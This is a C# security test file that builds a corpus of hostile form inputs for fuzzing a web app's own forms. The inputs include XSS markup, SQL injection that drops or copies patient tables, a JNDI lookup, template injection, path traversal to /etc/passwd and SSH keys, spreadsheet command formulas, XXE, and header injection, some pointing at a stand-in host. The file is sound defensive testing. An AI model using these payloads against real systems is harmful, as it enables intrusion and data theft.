using System.Text;

namespace HepBuilder.Tests.Security.Hostile;

/// <summary>How a hostile case changes one field of an otherwise valid form.</summary>
public enum HostileMode
{
    /// <summary>The field is posted with the hostile bytes instead of its valid value.</summary>
    Replace,

    /// <summary>The field is left out of the post altogether.</summary>
    Missing,

    /// <summary>The field is posted twice: its valid value, then the hostile bytes.</summary>
    DuplicateAfter,

    /// <summary>The field is posted twice: the hostile bytes, then its valid value.</summary>
    DuplicateBefore,
}

/// <summary>
/// One hostile value. It is kept as the raw bytes that go on the wire, because some of them (lone surrogates,
/// overlong or truncated sequences) are not valid UTF-8 and cannot be a .NET string at all.
/// </summary>
public sealed record HostileValue(string Category, string Label, byte[] Bytes, HostileMode Mode = HostileMode.Replace)
{
    /// <summary>The value as the app sees it after decoding the body (invalid sequences become U+FFFD).</summary>
    public string Text => Encoding.UTF8.GetString(Bytes);

    /// <summary>True when the bytes are real markup that would run or inject if a page echoed them unescaped.</summary>
    public bool IsMarkup => Text.Contains('<') || Text.Contains('"') || Text.Contains('\'');

    public override string ToString() => $"{Category}/{Label}";
}

/// <summary>
/// The hostile values posted to every form field, generated here (deterministic, no data file): markup and attribute
/// breakers, SQL, format strings, very long strings, control characters, invalid UTF-8, bidi overrides, emoji,
/// numbers out of range, wrong types, blanks, path traversal, and missing or duplicated fields.
/// </summary>
public static class HostileCorpus
{
    // The payloads carry "hbx" so that a live copy on a page can be told from anything the app writes itself.
    private static readonly string[] Markup =
    [
        "<script>alert('hbx')</script>",
        "<SCRIPT SRC=//hbx.example/x.js></SCRIPT>",
        "<img src=x onerror=alert('hbx')>",
        "<img src=\"x\" onerror=\"alert('hbx')\">",
        "<svg onload=alert('hbx')>",
        "<svg><script>alert('hbx')</script></svg>",
        "<iframe src=\"javascript:alert('hbx')\"></iframe>",
        "<body onload=alert('hbx')>",
        "<a href=\"javascript:alert('hbx')\">hbx</a>",
        "<details open ontoggle=alert('hbx')>",
        "<math><mtext></p><script>alert('hbx')</script>",
        "<object data=\"data:text/html,<script>alert('hbx')</script>\"></object>",
        "<embed src=\"javascript:alert('hbx')\">",
        "<style>*{background:url('javascript:alert(hbx)')}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('hbx')\">",
        "<base href=\"//hbx.example/\">",
        "<form action=\"//hbx.example\"><button>hbx</button></form>",
        "<input autofocus onfocus=alert('hbx')>",
        "<marquee onstart=alert('hbx')>hbx</marquee>",
        "<video><source onerror=alert('hbx')></video>",
        "<scr<script>ipt>alert('hbx')</scr</script>ipt>",
        "<ScRiPt>alert(String.fromCharCode(104,98,120))</sCrIpT>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('hbx')>",
        "<template><img src=x onerror=alert('hbx')></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('hbx')>\">",
        "<!--<img src=x onerror=alert('hbx')>-->",
        "<![CDATA[<script>alert('hbx')</script>]]>",
        "<xmp><img src=x onerror=alert('hbx')></xmp>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnaGJ4Jyk8L3NjcmlwdD4=\">hbx</a>",
        "<link rel=stylesheet href=//hbx.example/x.css>",
    ];

    private static readonly string[] Breakers =
    [
        "\"><img src=x onerror=alert('hbx')>",
        "'><img src=x onerror=alert('hbx')>",
        "\" onmouseover=\"alert('hbx')",
        "' onmouseover='alert(`hbx`)",
        "\" autofocus onfocus=\"alert('hbx')\" x=\"",
        "`><img src=x onerror=alert('hbx')>",
        "</textarea><script>alert('hbx')</script>",
        "</title><script>alert('hbx')</script>",
        "</script><script>alert('hbx')</script>",
        "</option></select><img src=x onerror=alert('hbx')>",
        "</style><script>alert('hbx')</script>",
        "--><script>alert('hbx')</script>",
        "]]><script>alert('hbx')</script>",
        "\";alert('hbx');//",
        "';alert('hbx');//",
        "\\\";alert('hbx');//",
        "{{constructor.constructor('alert(\"hbx\")')()}}",
        "javascript:alert('hbx')",
        " JaVaScRiPt:alert('hbx')",
        "\"",
        "'",
        "\"'",
        "<",
        ">",
        "&",
        "&amp;&lt;&gt;&quot;",
        "&#60;script&#62;alert('hbx')&#60;/script&#62;",
        "\\u003cscript\\u003ealert('hbx')\\u003c/script\\u003e",
        "%3Cscript%3Ealert('hbx')%3C%2Fscript%3E",
    ];

    private static readonly string[] Sql =
    [
        "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE patients; --", "1; DROP TABLE exercises", "' UNION SELECT password_hash FROM asp_net_users --",
        "'); DELETE FROM programs; --", "' AND pg_sleep(10) --", "1' AND SLEEP(5)#", "admin'--", "' OR ''='", "\\'", "\\\\", "''''''''",
        "%' --", "%_%", "$$; SELECT 1; $$", "E'\\x00'", "'||(SELECT version())||'", "1 OR 1=1", "x' AND 1=(SELECT COUNT(*) FROM pg_user) --",
        "'; COPY patients TO '/tmp/x'; --", "::text", "$1", "; --",
    ];

    private static readonly string[] Formats =
    [
        "{0}", "{1}", "{0:D}", "{0,-999999999}", "{", "}", "{{}}", "%s", "%s%s%s%s%s", "%n", "%x%x%x%x", "%p", "%d", "%1$s", "%99999999s",
        "${jndi:ldap://hbx.example/a}", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "@(1+1)", "@{throw new System.Exception();}", "@Html.Raw(\"<b>hbx</b>\")",
        "*{7*7}", "[[${7*7}]]", "%00", "%0d%0a",
    ];

    private static readonly string[] Traversal =
    [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/etc/passwd", "/etc/passwd\0.png",
        "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "file:///etc/passwd", "\\\\hbx.example\\share\\x", "%2e%2e%2f%2e%2e%2f",
        "..", ".", "~/.ssh/id_rsa", "CON", "NUL.txt", "x.png\0.exe", "/proc/self/environ",
    ];

    private static readonly string[] Injection =
    [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://hbx.example\",\"x\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
        "x\r\nSet-Cookie: hbx=1", "x\r\nLocation: //hbx.example", ") Tj ET /JavaScript (app.alert(1)) BT", "%PDF-1.7 obj << /S /Launch >> endobj %%EOF",
        "*)(uid=*))(|(uid=*", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "{\"$type\":\"System.IO.FileInfo\"}", "__proto__", "constructor", "data:text/html,<b>hbx</b>", "http://169.254.169.254/latest/meta-data/",
        "mailto:x@hbx.example?body=x", "a@b.c\r\nBcc: x@hbx.example", "null", "undefined", "NULL", "None", "[object Object]", "[]", "{}",
    ];

    private static readonly string[] Numbers =
    [
        "-1", "0", "-0", "1", "-2147483648", "2147483647", "2147483648", "-2147483649", "4294967295", "4294967296",
        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999999999",
        "1e309", "-1e309", "1e3", "1E-400", "NaN", "nan", "Infinity", "-Infinity", "∞", "0x10", "1,000", "1.5", "-0.0001", ".5", "5.",
        "1_000", "+7", " 7 ", "007", "٣", "１２", "Ⅻ", "1/2", "10 reps", "3-4", "1e1000000",
    ];

    private static readonly string[] WrongTypes =
    [
        "false", "on", "off", "yes", "maybe", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "not-a-guid",
        "{00000000-0000-0000-0000-000000000000}", "2024-02-30", "2024-13-01", "0001-01-01", "9999-12-31", "1899-12-31", "31/12/2020", "12/31/2020",
        "yesterday", "2020-01-01T00:00:00Z", "2020-W01-1", "-2020-01-01", "20200101", "Admin", "NoLifting", "Custom", "999", "Letter", "A4",
        "Both", "Left,Right", "System.DayOfWeek",
    ];

    private static readonly string[] Blanks = ["", " ", "   ", "\t", "\n", "\r\n", "\u00A0", "\u3000", "\u200B", "\u2028", "\uFEFF", " \t\r\n "];

    private static readonly string[] Unicode =
    [
        "\u202Egnp.exe", "Ada \u202Eevil\u202C Smith", "\u202Dforced LTR\u202C", "\u2066isolate\u2069", "\u2067rtl isolate\u2069", "\u200Fmark", "\u061C",
        "שלום עולם", "مرحبا بالعالم", "Ada \u05E9\u05DC\u05D5\u05DD 123", "\u202E\u0041\u0042\u0043", "\u202A\u202B\u202C\u202D\u202E",
        "👨‍👩‍👧‍👦", "👍🏽", "🇺🇸🇮🇱", "🏳️‍🌈", "💪🙂👍", "🤸‍♀️ stretch", "❤️", "©️®️™️", "𝕳𝖊𝖑𝖑𝖔", "𠜎𠜱𠝹", "日本語のテキスト", "한국어",
        "Z\u0351\u0352\u0353\u0354\u0355a\u0356\u0357l\u0358g\u0359o", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "ﷺ", "\uFDFD",
        "\U000E0041\U000E0042", "A\uFE0F", "\uFFFD", "\uFFFE", "\uFFFF", "\U0010FFFF", "\uE000private", "ǅ ß ﬁ ẞ", "İı", "Ⓐⓑⓒ",
    ];

    /// <summary>Bytes that are not valid UTF-8, sent as they are in the body (percent-encoded, so the server decodes them raw).</summary>
    private static readonly (string Label, byte[] Bytes)[] InvalidUtf8 =
    [
        ("lone high surrogate", [0xED, 0xA0, 0x80]), ("lone low surrogate", [0xED, 0xB0, 0x80]), ("surrogate pair as CESU", [0xED, 0xA0, 0xBD, 0xED, 0xB2, 0xAA]),
        ("0xFF", [0xFF]), ("0xFE 0xFF", [0xFE, 0xFF]), ("overlong slash", [0xC0, 0xAF]), ("overlong NUL", [0xC0, 0x80]),
        ("overlong 3-byte", [0xE0, 0x80, 0xAF]), ("above U+10FFFF", [0xF4, 0x90, 0x80, 0x80]), ("5-byte form", [0xF8, 0x88, 0x80, 0x80, 0x80]),
        ("truncated 3-byte", [0x41, 0xE2, 0x82]), ("truncated 2-byte at end", [0x41, 0x64, 0x61, 0xC3]), ("stray continuation", [0x80, 0x41]),
        ("latin-1 text", [0x4A, 0x6F, 0x73, 0xE9]), ("windows-1252 quotes", [0x93, 0x68, 0x62, 0x78, 0x94]),
        ("invalid inside markup", [0x3C, 0x73, 0x63, 0xC0, 0x72, 0x69, 0x70, 0x74, 0x3E]), ("lone surrogate then text", [0xED, 0xA0, 0x80, 0x41, 0x64, 0x61]),
        ("UTF-16LE BOM and text", [0xFF, 0xFE, 0x41, 0x00]), ("NUL then invalid", [0x00, 0xFF, 0x00]),
    ];

    private static readonly Lazy<IReadOnlyList<HostileValue>> All = new(Build);

    /// <summary>The whole corpus, in a fixed order.</summary>
    public static IReadOnlyList<HostileValue> Values => All.Value;

    /// <summary>
    /// About <paramref name="size"/> values spread evenly over the corpus (every category is represented), plus the
    /// missing and duplicated field cases, for forms that are not the main data-entry forms.
    /// </summary>
    public static IReadOnlyList<HostileValue> Sample(int size)
    {
        var stride = Math.Max(1, Values.Count / size);
        return Values.Where((v, i) => i % stride == 0 || v.Mode != HostileMode.Replace).ToList();
    }

    /// <summary>
    /// For a field that takes no free text (a number, date, choice, checkbox or hidden id): every value of the
    /// categories aimed at typed fields, and a sample of the rest, which such a field refuses at once.
    /// </summary>
    public static IReadOnlyList<HostileValue> ForTypedField => Typed.Value;

    private static readonly Lazy<IReadOnlyList<HostileValue>> Typed = new(() =>
        Values.Where((v, i) => v.Category is "number" or "wrong type" or "blank" or "field" or "invalid UTF-8" || i % 17 == 0).ToList());

    private static List<HostileValue> Build()
    {
        var values = new List<HostileValue>();
        void Add(string category, string text, string? label = null) =>
            values.Add(new HostileValue(category, label ?? Shorten(text), Encoding.UTF8.GetBytes(text)));

        foreach (var m in Markup)
        {
            Add("markup", m);
            Add("markup in text", "Ada " + m + " Smith");
            Add("markup after a quote", "x\"'>" + m);
        }
        foreach (var b in Breakers) Add("attribute breaker", b);
        foreach (var s in Sql) Add("sql", s);
        foreach (var f in Formats) Add("format string", f);
        foreach (var t in Traversal) Add("path traversal", t);
        foreach (var i in Injection) Add("injection", i);
        foreach (var n in Numbers) Add("number", n);
        foreach (var w in WrongTypes) Add("wrong type", w);
        for (var i = 0; i < Blanks.Length; i++) Add("blank", Blanks[i], $"blank #{i}");
        foreach (var u in Unicode) Add("unicode", u);

        // Every C0 control character, DEL and a few C1 ones, each between letters so its effect on the text shows.
        for (var c = 0; c < 0x20; c++) Add("control", $"Ada{(char)c}Smith", $"U+{c:X4}");
        foreach (var c in new[] { 0x7F, 0x85, 0x9B, 0x9F }) Add("control", $"Ada{(char)c}Smith", $"U+{c:X4}");
        Add("control", "\0", "NUL alone");
        Add("control", "\0\0\0\0\0\0\0\0", "NULs");
        Add("control", "\u001B[31mred\u001B[0m", "ANSI escape");
        Add("control", "a\bb\bc", "backspaces");
        Add("control", "line one\r\nline two\rthree\nfour", "mixed line breaks");

        // Sizes at and around the limits the app's fields use, and far past them.
        foreach (var n in new[] { 41, 81, 121, 201, 256, 501, 1001, 2001, 4097, 10_000 }) Add("long", new string('A', n), $"{n} × A");
        Add("long", new string('<', 10_000), "10,000 × <");
        Add("long", string.Concat(Enumerable.Repeat("<b>hbx</b>", 1000)), "1,000 × <b>");
        Add("long", string.Concat(Enumerable.Repeat("💪", 5_000)), "5,000 emoji (10,000 UTF-16 units)");
        Add("long", string.Concat(Enumerable.Repeat("word ", 2_000)), "2,000 words");
        Add("long", new string('\n', 10_000), "10,000 line breaks");
        Add("long", "Ada " + new string('W', 10_000), "one 10,000-letter word");

        foreach (var (label, bytes) in InvalidUtf8) values.Add(new HostileValue("invalid UTF-8", label, bytes));

        // Markup wrapped in the other hazards: the combinations filters tend to miss.
        foreach (var m in Markup)
        {
            Add("markup + control", "\0" + m, "NUL + " + Shorten(m));
            Add("markup + bidi", "\u202E" + m, "RLO + " + Shorten(m));
            Add("markup + long", new string('x', 9_950) + m, "9,950 × x + " + Shorten(m));
        }
        foreach (var s in Sql.Take(10)) Add("sql + markup", s + "<img src=x onerror=alert('hbx')>");

        var script = Encoding.UTF8.GetBytes("<script>alert('hbx')</script>");
        values.Add(new HostileValue("field", "missing", [], HostileMode.Missing));
        values.Add(new HostileValue("field", "duplicated, valid then markup", script, HostileMode.DuplicateAfter));
        values.Add(new HostileValue("field", "duplicated, markup then valid", script, HostileMode.DuplicateBefore));
        values.Add(new HostileValue("field", "duplicated, valid then -1", Encoding.UTF8.GetBytes("-1"), HostileMode.DuplicateAfter));
        values.Add(new HostileValue("field", "duplicated, blank then valid", [], HostileMode.DuplicateBefore));
        return values;
    }

    private static string Shorten(string text)
    {
        var shown = new StringBuilder();
        foreach (var c in text.Length > 40 ? text[..40] + "…" : text) shown.Append(char.IsControl(c) ? $"\\u{(int)c:X4}" : c);
        return shown.ToString();
    }
}
